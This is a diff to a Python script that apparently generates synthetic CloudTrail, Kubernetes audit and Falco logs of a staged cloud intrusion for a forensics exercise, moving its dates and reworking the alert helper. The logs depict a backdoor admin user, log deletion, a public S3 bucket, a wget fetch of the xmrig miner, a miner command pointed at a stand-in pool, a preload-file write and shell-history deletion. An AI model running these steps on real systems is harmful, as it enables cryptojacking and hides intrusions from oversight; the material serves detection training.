@@ -37,7 +37,7 @@ def user(name, key=None, account=SHOP, mfa=None):
     if key:
         identity["accessKeyId"] = key
     if mfa is not None:
-        identity["sessionContext"] = {"attributes": {"creationDate": "2026-02-06T00:30:00Z", "mfaAuthenticated": mfa}}
+        identity["sessionContext"] = {"attributes": {"creationDate": "2026-01-30T00:30:00Z", "mfaAuthenticated": mfa}}
     return identity
 
 
@@ -57,7 +57,7 @@ def role(name, session, key, account=SHOP):
                 "accountId": account,
                 "userName": name,
             },
-            "attributes": {"creationDate": "2026-02-06T00:00:00Z", "mfaAuthenticated": "false"},
+            "attributes": {"creationDate": "2026-01-30T00:00:00Z", "mfaAuthenticated": "false"},
         },
     }
 
@@ -68,7 +68,7 @@ def event(time, service, name, identity, request=None, response=None, address=AT
     return {
         "eventVersion": "1.11",
         "userIdentity": identity,
-        "eventTime": f"2026-02-{time}Z",
+        "eventTime": f"2026-01-{time}Z",
         "eventSource": f"{service}.amazonaws.com",
         "eventName": name,
         "awsRegion": more.pop("region", "us-east-1" if service in ("iam", "signin") else REGION),
@@ -104,33 +104,33 @@ def attack():
         ],
     }
     game = role("GameOperations", "kenji-session", ROLE_KEY, GAME)
-    yield event("06T14:02:11", "sts", "GetCallerIdentity", kenji, read=True)
-    yield event("06T14:02:40", "iam", "GetAccountAuthorizationDetails", kenji, {}, read=True)
-    yield event("06T14:03:05", "iam", "ListUsers", kenji, read=True)
-    yield event("06T14:03:31", "cloudtrail", "DescribeTrails", kenji, read=True)
-    made = {"userName": "kenji", "accessKeyId": SECOND_KEY, "status": "Active", "createDate": "Feb 6, 2026 2:09:12 PM"}
-    yield event("06T14:09:12", "iam", "CreateAccessKey", kenji, None, {"accessKey": made})
-    made = {"userName": "misaki", "accessKeyId": OTHER_KEY, "status": "Active", "createDate": "Feb 6, 2026 2:10:02 PM"}
-    yield event("06T14:10:02", "iam", "CreateAccessKey", kenji, {"userName": "misaki"}, {"accessKey": made})
+    yield event("30T14:02:11", "sts", "GetCallerIdentity", kenji, read=True)
+    yield event("30T14:02:40", "iam", "GetAccountAuthorizationDetails", kenji, {}, read=True)
+    yield event("30T14:03:05", "iam", "ListUsers", kenji, read=True)
+    yield event("30T14:03:31", "cloudtrail", "DescribeTrails", kenji, read=True)
+    made = {"userName": "kenji", "accessKeyId": SECOND_KEY, "status": "Active", "createDate": "Jan 30, 2026 2:09:12 PM"}
+    yield event("30T14:09:12", "iam", "CreateAccessKey", kenji, None, {"accessKey": made})
+    made = {"userName": "misaki", "accessKeyId": OTHER_KEY, "status": "Active", "createDate": "Jan 30, 2026 2:10:02 PM"}
+    yield event("30T14:10:02", "iam", "CreateAccessKey", kenji, {"userName": "misaki"}, {"accessKey": made})
     arn = f"arn:aws:iam::{SHOP}:user/svc-backup2"
-    made = {"path": "/", "arn": arn, "userId": "AIDAVCODYSVCBACKUP20", "userName": "svc-backup2", "createDate": "Feb 6, 2026 2:13:44 PM"}
-    yield event("06T14:13:44", "iam", "CreateUser", kenji, {"userName": "svc-backup2"}, {"user": made})
-    yield event("06T14:14:20", "iam", "AddUserToGroup", kenji, {"groupName": "Administrators", "userName": "svc-backup2"})
+    made = {"path": "/", "arn": arn, "userId": "AIDAVCODYSVCBACKUP20", "userName": "svc-backup2", "createDate": "Jan 30, 2026 2:13:44 PM"}
+    yield event("30T14:13:44", "iam", "CreateUser", kenji, {"userName": "svc-backup2"}, {"user": made})
+    yield event("30T14:14:20", "iam", "AddUserToGroup", kenji, {"groupName": "Administrators", "userName": "svc-backup2"})
     request = {"userName": "svc-backup2", "policyName": "backup", "policyDocument": json.dumps(policy)}
-    yield event("06T14:15:37", "iam", "PutUserPolicy", kenji, request)
+    yield event("30T14:15:37", "iam", "PutUserPolicy", kenji, request)
     made = {
         "userName": "svc-backup2",
         "accessKeyId": "AKIAVCODYLSA0BACKUP2",
         "status": "Active",
-        "createDate": "Feb 6, 2026 2:16:10 PM",
+        "createDate": "Jan 30, 2026 2:16:10 PM",
     }
-    yield event("06T14:16:10", "iam", "CreateAccessKey", kenji, {"userName": "svc-backup2"}, {"accessKey": made})
-    made = {"userName": "svc-backup2", "createDate": "Feb 6, 2026 2:16:55 PM", "passwordResetRequired": False}
+    yield event("30T14:16:10", "iam", "CreateAccessKey", kenji, {"userName": "svc-backup2"}, {"accessKey": made})
+    made = {"userName": "svc-backup2", "createDate": "Jan 30, 2026 2:16:55 PM", "passwordResetRequired": False}
     request = {"userName": "svc-backup2", "passwordResetRequired": False}
-    yield event("06T14:16:55", "iam", "CreateLoginProfile", kenji, request, {"loginProfile": made})
+    yield event("30T14:16:55", "iam", "CreateLoginProfile", kenji, request, {"loginProfile": made})
     more = {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"}
     yield event(
-        "06T14:21:18",
+        "30T14:21:18",
         "signin",
         "ConsoleLogin",
         user("svc-backup2"),
@@ -139,10 +139,10 @@ def attack():
         agent=BROWSER,
         additionalEventData=more,
     )
-    yield event("06T14:26:02", "cloudtrail", "StopLogging", intruder, {"name": "hinode-trail"}, errorCode="AccessDenied",
+    yield event("30T14:26:02", "cloudtrail", "StopLogging", intruder, {"name": "hinode-trail"}, errorCode="AccessDenied",
                 errorMessage="User is not authorized to perform: cloudtrail:StopLogging with an explicit deny in a service control policy")
     request = {"logGroupName": "aws-cloudtrail-logs-345678901234", "logStreamName": f"{SHOP}_CloudTrail_{REGION}"}
-    yield event("06T14:27:33", "logs", "DeleteLogStream", intruder, request)
+    yield event("30T14:27:33", "logs", "DeleteLogStream", intruder, request)
     rule = {
         "items": [
             {
@@ -155,24 +155,24 @@ def attack():
         ]
     }
     request = {"groupId": "sg-0a1b2c3d4e5f60718", "ipPermissions": rule}
-    yield event("06T14:40:09", "ec2", "AuthorizeSecurityGroupIngress", intruder, request, {"_return": True})
-    yield event("06T15:02:51", "ecr", "GetAuthorizationToken", intruder, None, read=True)
-    request = {"registryId": SHOP, "repositoryName": "shop/web", "imageTag": "prod-2026-02", "imageManifestMediaType": "application/vnd.docker.distribution.manifest.v2+json"}
-    made = {"image": {"repositoryName": "shop/web", "registryId": SHOP, "imageId": {"imageTag": "prod-2026-02", "imageDigest": "sha256:5f1d7a84db00d2fce00b31a7fc73224f"}}}
-    yield event("06T15:05:12", "ecr", "PutImage", intruder, request, made, agent="docker/29.1.2 go/go1.25.5 kernel/6.8.0 os/linux arch/amd64")
-    yield event("06T15:20:40", "eks", "DescribeCluster", kenji, {"name": "shop-prod"}, read=True)
+    yield event("30T14:40:09", "ec2", "AuthorizeSecurityGroupIngress", intruder, request, {"_return": True})
+    yield event("30T15:02:51", "ecr", "GetAuthorizationToken", intruder, None, read=True)
+    request = {"registryId": SHOP, "repositoryName": "shop/web", "imageTag": "prod-2026-01", "imageManifestMediaType": "application/vnd.docker.distribution.manifest.v2+json"}
+    made = {"image": {"repositoryName": "shop/web", "registryId": SHOP, "imageId": {"imageTag": "prod-2026-01", "imageDigest": "sha256:5f1d7a84db00d2fce00b31a7fc73224f"}}}
+    yield event("30T15:05:12", "ecr", "PutImage", intruder, request, made, agent="docker/29.1.2 go/go1.25.5 kernel/6.8.0 os/linux arch/amd64")
+    yield event("30T15:20:40", "eks", "DescribeCluster", kenji, {"name": "shop-prod"}, read=True)
     request = {"roleArn": f"arn:aws:iam::{GAME}:role/GameOperations", "roleSessionName": "kenji-session"}
     made = {
-        "credentials": {"accessKeyId": ROLE_KEY, "expiration": "Feb 6, 2026 5:02:00 PM", "sessionToken": "HIDDEN"},
+        "credentials": {"accessKeyId": ROLE_KEY, "expiration": "Jan 30, 2026 5:02:00 PM", "sessionToken": "HIDDEN"},
         "assumedRoleUser": {"assumedRoleId": "AROAVCODYGAMEOPERATI:kenji-session", "arn": game["arn"]},
     }
-    yield event("06T16:02:00", "sts", "AssumeRole", kenji, request, made, read=True)
+    yield event("30T16:02:00", "sts", "AssumeRole", kenji, request, made, read=True)
     request = {"cluster": "b2b-internal-platform", "task": "1f2e3d4c5b6a47988796a5b4c3d2e1f0", "container": "api", "command": "/bin/sh", "interactive": True}
     made = {"clusterArn": f"arn:aws:ecs:{REGION}:{GAME}:cluster/b2b-internal-platform", "session": {"sessionId": "ecs-execute-command-0c5f6e7d8a9b0c1d2"}}
-    yield event("06T16:08:23", "ecs", "ExecuteCommand", game, request, made)
-    yield event("06T16:31:47", "s3", "DeleteBucketPublicAccessBlock", game, {"bucketName": "hinode-game-assets", "publicAccessBlock": ""})
+    yield event("30T16:08:23", "ecs", "ExecuteCommand", game, request, made)
+    yield event("30T16:31:47", "s3", "DeleteBucketPublicAccessBlock", game, {"bucketName": "hinode-game-assets", "publicAccessBlock": ""})
     request = {"bucketName": "hinode-game-assets", "bucketPolicy": open_bucket, "policy": ""}
-    yield event("06T16:32:15", "s3", "PutBucketPolicy", game, request)
+    yield event("30T16:32:15", "s3", "PutBucketPolicy", game, request)
 
 
 def everyday():
@@ -184,22 +184,22 @@ def everyday():
             who = role("YaguraReadOnly", "yagura", "ASIAVCODYLSA0YAGURA1", account)
             for service, name in (("ec2", "DescribeInstances"), ("s3", "ListBuckets"), ("iam", "ListRoles"), ("rds", "DescribeDBInstances")):
                 minute, second = _random.randrange(60), _random.randrange(60)
-                yield event(f"06T{hour:02}:{minute:02}:{second:02}", service, name, who, read=True, address=OFFICE)
+                yield event(f"30T{hour:02}:{minute:02}:{second:02}", service, name, who, read=True, address=OFFICE)
     for hour in (1, 3, 5, 8):
         request = {"cluster": "shop", "service": "web", "taskDefinition": f"web:{hour + 40}"}
-        yield event(f"06T{hour:02}:15:00", "ecs", "UpdateService", deploy, request, {"service": {"serviceName": "web"}}, address="192.0.2.44")
+        yield event(f"30T{hour:02}:15:00", "ecs", "UpdateService", deploy, request, {"service": {"serviceName": "web"}}, address="192.0.2.44")
         request = {"registryId": SHOP, "repositoryName": "shop/web", "imageTag": f"build-{hour + 400}"}
-        yield event(f"06T{hour:02}:12:00", "ecr", "PutImage", deploy, request, {"image": {}}, address="192.0.2.44")
+        yield event(f"30T{hour:02}:12:00", "ecr", "PutImage", deploy, request, {"image": {}}, address="192.0.2.44")
     for name, hour in (("misaki", 0), ("kenji", 1), ("tanaka", 2)):
         more = {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "Yes"}
-        yield event(f"06T{hour:02}:31:07", "signin", "ConsoleLogin", user(name), None, {"ConsoleLogin": "Success"}, address=OFFICE, agent=BROWSER, additionalEventData=more)
+        yield event(f"30T{hour:02}:31:07", "signin", "ConsoleLogin", user(name), None, {"ConsoleLogin": "Success"}, address=OFFICE, agent=BROWSER, additionalEventData=more)
     for minute in (3, 17, 42):
         request = {"bucketName": "hinode-shop-images", "key": f"banner-{minute}.png"}
-        yield event(f"06T04:{minute:02}:10", "s3", "PutObject", user("misaki", "ASIAVCODYLSA0MISAKI1", mfa="true"), request, address=OFFICE, managementEvent=False, eventCategory="Data")
+        yield event(f"30T04:{minute:02}:10", "s3", "PutObject", user("misaki", "ASIAVCODYLSA0MISAKI1", mfa="true"), request, address=OFFICE, managementEvent=False, eventCategory="Data")
     # The engineer's own work, in the evening, from home.
     for minute, name in ((5, "DescribeServices"), (9, "DescribeTasks"), (26, "UpdateService")):
-        yield event(f"06T10:{minute:02}:30", "ecs", name, user("kenji", KEY), {"cluster": "shop"}, address=HOME, read=name != "UpdateService")
-    yield event("06T02:20:00", "ec2", "RunInstances", deploy, {"instanceType": "t3.small", "minCount": 1, "maxCount": 1}, {"instancesSet": {"items": [{"instanceId": "i-0f00ba4dca5e00001"}]}}, address="192.0.2.44")
+        yield event(f"30T10:{minute:02}:30", "ecs", name, user("kenji", KEY), {"cluster": "shop"}, address=HOME, read=name != "UpdateService")
+    yield event("30T02:20:00", "ec2", "RunInstances", deploy, {"instanceType": "t3.small", "minCount": 1, "maxCount": 1}, {"instancesSet": {"items": [{"instanceId": "i-0f00ba4dca5e00001"}]}}, address="192.0.2.44")
     _ = reader
 
 
@@ -214,7 +214,8 @@ def audit(time, verb, resource, name, user_name, extra=None, sub=None, code=200,
         "apiVersion": "audit.k8s.io/v1",
         "level": "Metadata",
         "auditID": _uuid(),
-        "stage": "ResponseComplete",
+        # What goes on, as exec does, is told when it begins.
+        "stage": "ResponseStarted" if code == 101 else "ResponseComplete",
         "requestURI": more.pop("uri", uri),
         "verb": verb,
         "user": {"username": user_name, "groups": ["system:authenticated"], "extra": extra or {}},
@@ -222,8 +223,8 @@ def audit(time, verb, resource, name, user_name, extra=None, sub=None, code=200,
         "userAgent": more.pop("agent", "kubectl/v1.34.2 (linux/amd64) kubernetes/8cc511e"),
         "objectRef": reference,
         "responseStatus": {"metadata": {}, "code": code},
-        "requestReceivedTimestamp": f"2026-02-{time}.104233Z",
-        "stageTimestamp": f"2026-02-{time}.250114Z",
+        "requestReceivedTimestamp": f"2026-01-{time}.104233Z",
+        "stageTimestamp": f"2026-01-{time}.250114Z",
         **more,
     }
 
@@ -236,11 +237,11 @@ def cluster():
     arn = f"arn:aws:iam::{SHOP}:user/kenji"
     kenji = {"accessKeyId": [KEY], "arn": [arn], "canonicalArn": [arn], "principalId": ["AIDAVCODYKENJI000000"], "sessionName": [""]}
     for hour in range(0, 24, 2):
-        yield audit(f"06T{hour:02}:00:03", "get", "pods", POD, "system:serviceaccount:kube-system:replicaset-controller", address="10.0.12.7", agent="kube-controller-manager/v1.34.2")
-    yield audit("06T10:07:44", "get", "pods", POD, "kubernetes-admin", kenji, address=HOME)
-    yield audit("06T15:24:10", "list", "pods", "", "kubernetes-admin", kenji, address=ATTACKER, uri="/api/v1/namespaces/shop/pods")
+        yield audit(f"30T{hour:02}:00:03", "get", "pods", POD, "system:serviceaccount:kube-system:replicaset-controller", address="10.0.12.7", agent="kube-controller-manager/v1.34.2")
+    yield audit("30T10:07:44", "get", "pods", POD, "kubernetes-admin", kenji, address=HOME)
+    yield audit("30T15:24:10", "list", "pods", "", "kubernetes-admin", kenji, address=ATTACKER, uri="/api/v1/namespaces/shop/pods")
     yield audit(
-        "06T15:25:38",
+        "30T15:25:38",
         "create",
         "pods",
         POD,
@@ -253,7 +254,7 @@ def cluster():
     )
 
 
-def alert(time, rule, priority, output, fields, tags):
+def alert(time, rule, priority, fields, tags):
     """One alert of Falco, as its JSON output writes it."""
     common = {
         "container.id": "3ad7b26ded6d",
@@ -266,62 +267,34 @@ def alert(time, rule, priority, output, fields, tags):
     }
     return {
         "uuid": _uuid(),
-        "output": output,
+        "output": f"{rule} (user=root command={fields['proc.cmdline']} container=3ad7b26ded6d namespace=shop pod={POD})",
         "priority": priority,
         "rule": rule,
         "source": "syscall",
         "tags": tags,
-        "time": f"2026-02-{time}.118273645Z",
+        "time": f"2026-01-{time}.118273645Z",
         "hostname": "ip-10-0-12-31.ap-northeast-1.compute.internal",
         "output_fields": {**common, **fields},
     }
 
 
 def runtime():
-    """What Falco on the node saw in the pod: the rules and outputs are ours."""
-    shell = {"proc.pname": "bash", "proc.aname[2]": "containerd-shim"}
-    yield alert(
-        "06T15:25:39",
-        "Shell started in a container with a terminal",
-        "Notice",
-        "A shell was started with a terminal (command=bash pod=" + POD + ")",
-        {"evt.type": "execve", "proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "runc", "proc.tty": 34816},
-        ["container", "shell", "mitre_execution", "T1059"],
-    )
+    """What Falco on the node saw in the pod, by the built-in rules."""
+    shell = {"proc.pname": "bash", "proc.tty": 34816}
+    fields = {"evt.type": "execve", "proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "runc", "proc.tty": 34816}
+    yield alert("30T15:25:39", "Shell opened in a container", "Notice", fields, ["container", "process", "mitre_execution", "T1059.004", "T1609"])
     command = "wget -qO- https://github.com/xmrig/xmrig/releases/download/v6.3.1/xmrig-6.3.1-xenial-x64.tar.gz"
-    yield alert(
-        "06T15:27:02",
-        "Program fetched into a container",
-        "Warning",
-        "A download tool was run in a container (command=" + command + ")",
-        {"evt.type": "execve", "proc.name": "wget", "proc.cmdline": command, **shell},
-        ["container", "network", "mitre_command_and_control", "T1105"],
-    )
-    command = "xmrig -o stratum+tcp://pool.example.net:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
-    yield alert(
-        "06T15:27:48",
-        "Miner started",
-        "Critical",
-        "A miner was started (command=" + command + ")",
-        {"evt.type": "execve", "proc.name": "xmrig", "proc.exepath": "/xmrig-6.3.1/xmrig", "proc.cmdline": command, **shell},
-        ["container", "process", "mitre_impact", "T1496"],
-    )
-    yield alert(
-        "06T15:33:20",
-        "Preloaded libraries changed",
-        "Error",
-        "/etc/ld.so.preload was opened for writing (command=bash)",
-        {"evt.type": "openat", "fd.name": "/etc/ld.so.preload", "proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "runc"},
-        ["container", "filesystem", "mitre_defense_evasion", "T1574.006"],
-    )
-    yield alert(
-        "06T15:35:11",
-        "Shell history deleted",
-        "Warning",
-        "The history of a shell was deleted (file=/root/.bash_history command=rm .bash_history)",
-        {"evt.type": "unlinkat", "fs.path.name": "/root/.bash_history", "fd.name": "/root/.bash_history", "proc.name": "rm", "proc.cmdline": "rm .bash_history", **shell},
-        ["container", "process", "mitre_defense_evasion", "T1070.003"],
-    )
+    fields = {"evt.type": "execve", "proc.name": "wget", "proc.cmdline": command, **shell}
+    tags = ["container", "host", "process", "mitre_command_and_control", "T1105", "T1496.001"]
+    yield alert("30T15:27:02", "Cryptocurrency miner downloaded", "Error", fields, tags)
+    command = "xmrig -o stratum+tcp://pool.example.net:4444 -u hinode"
+    fields = {"evt.type": "execve", "proc.name": "xmrig", "proc.cmdline": command, **shell}
+    yield alert("30T15:27:48", "Cryptocurrency miner started", "Critical", fields, ["container", "host", "process", "mitre_impact", "T1496.001"])
+    fields = {"evt.type": "openat", "evt.is_open_write": True, "fd.name": "/etc/ld.so.preload", "proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "runc", "proc.tty": 34816}
+    tags = ["container", "filesystem", "host", "mitre_defense_evasion", "mitre_persistence", "T1574.006"]
+    yield alert("30T15:33:20", "Preload file of the dynamic linker changed", "Critical", fields, tags)
+    fields = {"evt.type": "execve", "proc.name": "rm", "proc.cmdline": "rm .bash_history", **shell}
+    yield alert("30T15:35:11", "Shell history deleted", "Warning", fields, ["container", "host", "process", "mitre_defense_evasion", "T1070.003"])
 
 
 def write(name, text):
@@ -338,7 +311,7 @@ def main():
         # A call of one account that takes a role of another stands in both logs.
         own = [it for it in events if it["recipientAccountId"] == account]
         lines = ",\n".join(json.dumps(it, separators=(",", ":")) for it in own)
-        name = f"AWSLogs/o-y1a2rogubb/{account}/CloudTrail/{REGION}/2026/02/06/{account}_CloudTrail_{REGION}_20260206T2359Z_hinode.json"
+        name = f"AWSLogs/o-y1a2rogubb/{account}/CloudTrail/{REGION}/2026/01/30/{account}_CloudTrail_{REGION}_20260130T2359Z_hinode.json"
         write(name, '{"Records":[\n' + lines + "\n]}\n")
     write("kubernetes/shop-prod-audit.log", "".join(json.dumps(it, separators=(",", ":")) + "\n" for it in cluster()))
     write("falco/shop-prod-alerts.json", "".join(json.dumps(it, separators=(",", ":")) + "\n" for it in runtime()))
